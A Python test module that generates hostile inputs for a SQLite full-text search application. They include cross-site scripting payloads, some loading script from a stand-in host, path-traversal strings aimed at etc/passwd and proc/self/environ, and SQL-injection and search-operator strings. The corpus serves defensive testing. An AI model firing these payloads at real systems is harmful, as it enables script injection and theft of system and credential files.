"""What a hostile reader types: markup that wants to run, paths that want out, words that are commands to SQLite's full-text search."""

from itertools import product

_CALL = "alert(document.domain)"
_OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "--><!-- -->", "]]>", "\\\"'>")
_MARKUP = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt/x>{_CALL}</sCrIpT>",
    f"<script>{_CALL}//",
    f"<<script>{_CALL}//<</script>",
    "<script src=//contoh.test/x.js></script>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src='x'/onerror='{_CALL}'/>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<a href=javascript:{_CALL}>pasal</a>",
    f"<form action=javascript:{_CALL}><button>",
    f"<object data=javascript:{_CALL}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<style>@import'//contoh.test/x.css';</style><p style=animation-name:x onanimationstart={_CALL}>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"\u003cscript\u003e{_CALL}",
    f"<script>{_CALL}</script>",
    f"x onmouseover={_CALL} y",
    f"javascript:{_CALL}",
    "<meta http-equiv=refresh content='0;url=//contoh.test'>",
    "<base href=//contoh.test/>",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    "{{ config }}{% include 'base.html' %}",
    f"${{{_CALL}}}",
)
_UP = ("../", "..\\", "....//", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af", "..;/")
_FILES = ("etc/passwd", "proc/self/environ", "windows/win.ini", "corpus/manifest.toml", "kb.sqlite3", "current", "generation.json")
_PATHS = tuple(up * times + file for up, times, file in product(_UP, (1, 4), _FILES))
_OPERATORS = (
    "AND",
    "OR",
    "NOT",
    "NEAR",
    "NEAR/3",
    "MATCH",
    "*",
    "^",
    ":",
    "+",
    "-",
    "(",
    ")",
    '"',
    "''",
    "{naskah gloss}:",
    "- naskah:",
    "rank MATCH",
)
_OPERANDS = (
    "",
    "korban",
    '"korban',
    "korban*",
    "(korban",
    "korban)",
    "naskah:korban",
    'a" OR "1"="1',
    "'; DROP TABLE passages; --",
    "\u202ekorban",
)
_COMMANDS = tuple(f"{left} {operator} {right}".strip() for operator, left, right in product(_OPERATORS, ("korban", '"'), _OPERANDS))

MARKUP = tuple(before + markup for before, markup in product(_OUT_OF, _MARKUP))
#: More than five hundred, no two alike.
STRINGS = tuple(dict.fromkeys((*MARKUP, *_PATHS, *_COMMANDS)))
